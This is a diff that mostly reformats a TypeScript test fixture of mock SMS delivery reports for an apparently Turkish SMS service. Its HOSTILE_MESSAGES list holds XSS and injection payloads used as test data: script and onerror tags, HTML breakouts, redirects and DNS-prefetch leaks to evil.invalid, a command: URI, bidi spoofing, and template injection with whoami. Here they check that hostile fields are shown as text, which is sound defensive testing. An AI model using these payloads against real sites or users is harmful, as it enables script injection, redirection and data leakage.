@@ -130,19 +130,38 @@ export const LENIENT = {
 
 const LENIENT_REPORTS: Readonly<Record<string, RawReport>> = {
   [LENIENT.stringIds]: report(LENIENT.stringIds, { id: '3201', sms_gonderim_id: '187', durum_gonderim: 'DELIVERED' }),
-  [LENIENT.refundString1]: report(LENIENT.refundString1, { durum_gonderim: 'NOT_DELIVERED', durum_iade: '1', mesaj: 'İade edilmiş gönderim (durum_iade "1").' }),
-  [LENIENT.refundTrue]: report(LENIENT.refundTrue, { durum_gonderim: 'EXPIRED', durum_iade: true, mesaj: 'İade edilmiş gönderim (durum_iade true).' }),
+  [LENIENT.refundString1]: report(LENIENT.refundString1, {
+    durum_gonderim: 'NOT_DELIVERED',
+    durum_iade: '1',
+    mesaj: 'İade edilmiş gönderim (durum_iade "1").',
+  }),
+  [LENIENT.refundTrue]: report(LENIENT.refundTrue, {
+    durum_gonderim: 'EXPIRED',
+    durum_iade: true,
+    mesaj: 'İade edilmiş gönderim (durum_iade true).',
+  }),
   [LENIENT.refundString0]: report(LENIENT.refundString0, { durum_iade: '0' }),
-  [LENIENT.datesWithoutSeconds]: report(LENIENT.datesWithoutSeconds, { created_at: '2024-03-15 09:12', updated_at: '2024-03-15 09:14' }),
+  [LENIENT.datesWithoutSeconds]: report(LENIENT.datesWithoutSeconds, {
+    created_at: '2024-03-15 09:12',
+    updated_at: '2024-03-15 09:14',
+  }),
   [LENIENT.partsAsString]: report(LENIENT.partsAsString, {
     mesaj_boy: '2',
-    mesaj: 'Bu mesaj iki parçadan oluşuyor çünkü Türkçe karakterler (ş, ğ, ı, İ, ç, ö, ü) tek bir SMS parçasına sığan '
-      + 'karakter sayısını 70 ile sınırlar; bu yüzden uzun metinler birden fazla parça olarak gönderilir.',
+    mesaj:
+      'Bu mesaj iki parçadan oluşuyor çünkü Türkçe karakterler (ş, ğ, ı, İ, ç, ö, ü) tek bir SMS parçasına sığan ' +
+      'karakter sayısını 70 ile sınırlar; bu yüzden uzun metinler birden fazla parça olarak gönderilir.',
   }),
   [LENIENT.statusLowerCase]: report(LENIENT.statusLowerCase, { durum_gonderim: ' delivered ' }),
   [LENIENT.allAtOnce]: report(LENIENT.allAtOnce, {
-    id: '3202', sms_gonderim_id: '187', mesaj_boy: '3', durum_iade: 'true', durum_gonderim: 'sent',
-    created_at: '2024-03-15 09:12', updated_at: '2024-03-15T09:20:00', operator: 'Turkcell', fiyat: '0.0125',
+    id: '3202',
+    sms_gonderim_id: '187',
+    mesaj_boy: '3',
+    durum_iade: 'true',
+    durum_gonderim: 'sent',
+    created_at: '2024-03-15 09:12',
+    updated_at: '2024-03-15T09:20:00',
+    operator: 'Turkcell',
+    fiyat: '0.0125',
   }),
 };
 
@@ -157,21 +176,54 @@ export interface HostileEntry {
   readonly mesaj: string;
 }
 export const HOSTILE_MESSAGES: readonly HostileEntry[] = [
-  { name: 'img-script', number: '5366600001', mesaj: `<img src=x onerror=alert(1)><script>document.title='pwned'</script>` },
-  { name: 'attribute-breakout', number: '5366600002', mesaj: `"><img src=x onerror="document.title='pwned'">'><svg onload=alert(1)>` },
-  { name: 'pre-breakout', number: '5366600003', mesaj: `</pre></code></td><svg onload="document.title='pwned'"></svg>` },
-  { name: 'base-meta', number: '5366600004', mesaj: `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">` },
-  { name: 'dns-prefetch', number: '5366600005', mesaj: `<link rel=dns-prefetch href=//DATA.evil.invalid><link rel=stylesheet href=https://evil.invalid/x.css>` },
-  { name: 'command-uri', number: '5366600006', mesaj: `[Tıkla](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D) $(alert) javascript:alert(1) [x](javascript:alert(1))` },
-  { name: 'bidi-zero-width', number: '5366600007', mesaj: `Fatura\u202Eexe.pdf\u202C ödendi\u200B\u200C\u200D\uFEFF İıŞğ 😀👍🏽` },
+  {
+    name: 'img-script',
+    number: '5366600001',
+    mesaj: `<img src=x onerror=alert(1)><script>document.title='pwned'</script>`,
+  },
+  {
+    name: 'attribute-breakout',
+    number: '5366600002',
+    mesaj: `"><img src=x onerror="document.title='pwned'">'><svg onload=alert(1)>`,
+  },
+  {
+    name: 'pre-breakout',
+    number: '5366600003',
+    mesaj: `</pre></code></td><svg onload="document.title='pwned'"></svg>`,
+  },
+  {
+    name: 'base-meta',
+    number: '5366600004',
+    mesaj: `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
+  },
+  {
+    name: 'dns-prefetch',
+    number: '5366600005',
+    mesaj: `<link rel=dns-prefetch href=//DATA.evil.invalid><link rel=stylesheet href=https://evil.invalid/x.css>`,
+  },
+  {
+    name: 'command-uri',
+    number: '5366600006',
+    mesaj: `[Tıkla](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D) $(alert) javascript:alert(1) [x](javascript:alert(1))`,
+  },
+  {
+    name: 'bidi-zero-width',
+    number: '5366600007',
+    mesaj: `Fatura\u202Eexe.pdf\u202C ödendi\u200B\u200C\u200D\uFEFF İıŞğ 😀👍🏽`,
+  },
   { name: 'long-line', number: '5366600008', mesaj: 'Ş'.repeat(10) + 'A'.repeat(100_000 - 20) + 'ğ'.repeat(10) },
-  { name: 'template-injection', number: '5366600009', mesaj: '${process.exit(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %> `whoami`' },
+  {
+    name: 'template-injection',
+    number: '5366600009',
+    mesaj: '${process.exit(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %> `whoami`',
+  },
 ];
 
 /** The first hostile message (an <img onerror> and a <script>). */
 export const HOSTILE_NUMBER = HOSTILE_MESSAGES[0].number;
-export const NUMBER_FOR_HOSTILE: Readonly<Record<string, string>> =
-  Object.fromEntries(HOSTILE_MESSAGES.map((h) => [h.name, h.number]));
+export const NUMBER_FOR_HOSTILE: Readonly<Record<string, string>> = Object.fromEntries(
+  HOSTILE_MESSAGES.map((h) => [h.name, h.number]),
+);
 
 /** A report whose every other field is hostile too: the echoed number, the status, the dates, the refund flag and
  *  an undocumented field (name and value). All must be shown as text (reliability row 1). */
@@ -209,19 +261,29 @@ function progressing({ query, progressAfter }: QueryContext): RawReport {
 function buildMainSend(): Record<string, Answer> {
   const send: Record<string, Answer> = { [SAMPLE.number]: SAMPLE_REPORT };
   send[HOSTILE_FIELDS.number] = report(HOSTILE_FIELDS.number, {
-    numara: HOSTILE_FIELDS.numara, durum_gonderim: HOSTILE_FIELDS.status, created_at: HOSTILE_FIELDS.createdAt,
-    updated_at: HOSTILE_FIELDS.updatedAt, durum_iade: HOSTILE_FIELDS.refund, [HOSTILE_FIELDS.extraName]: HOSTILE_FIELDS.extraValue,
+    numara: HOSTILE_FIELDS.numara,
+    durum_gonderim: HOSTILE_FIELDS.status,
+    created_at: HOSTILE_FIELDS.createdAt,
+    updated_at: HOSTILE_FIELDS.updatedAt,
+    durum_iade: HOSTILE_FIELDS.refund,
+    [HOSTILE_FIELDS.extraName]: HOSTILE_FIELDS.extraValue,
   });
   for (const code of STATUS_CODES) {
     send[NUMBER_FOR_STATUS[code]] = report(NUMBER_FOR_STATUS[code], {
       durum_gonderim: code,
       mesaj: STATUS_MESSAGES[code],
-      durum_iade: code === 'NOT_DELIVERED' || code === 'INVALID_DESTINATION_ADDRESS' || code === 'BLACKLISTED_DESTINATION_ADDRESS' ? 1 : 0,
+      durum_iade:
+        code === 'NOT_DELIVERED' || code === 'INVALID_DESTINATION_ADDRESS' || code === 'BLACKLISTED_DESTINATION_ADDRESS'
+          ? 1
+          : 0,
       updated_at: code === 'DEFAULT' ? '2024-03-15 09:12:05' : '2024-03-15 09:12:41',
     });
   }
   Object.assign(send, LENIENT_REPORTS);
-  send[UNKNOWN_STATUS.number] = report(UNKNOWN_STATUS.number, { durum_gonderim: UNKNOWN_STATUS.code, mesaj: 'Bilinmeyen durum kodu denemesi.' });
+  send[UNKNOWN_STATUS.number] = report(UNKNOWN_STATUS.number, {
+    durum_gonderim: UNKNOWN_STATUS.code,
+    mesaj: 'Bilinmeyen durum kodu denemesi.',
+  });
   for (const h of HOSTILE_MESSAGES) {
     send[h.number] = report(h.number, { mesaj: h.mesaj, mesaj_boy: Math.max(1, Math.ceil(h.mesaj.length / 67)) });
   }
@@ -272,8 +334,7 @@ export const SENDS: Readonly<Record<string, Readonly<Record<string, Answer>>>> =
 };
 
 export type Found =
-  | { readonly found: true; readonly report: RawReport }
-  | { readonly found: false; readonly missing: 'send' | 'number' };
+  { readonly found: true; readonly report: RawReport } | { readonly found: false; readonly missing: 'send' | 'number' };
 
 /** The report of one number in one send. `ctx` is only consulted by computed answers. */
 export function findReport(sendId: string, number: string, ctx: QueryContext): Found {
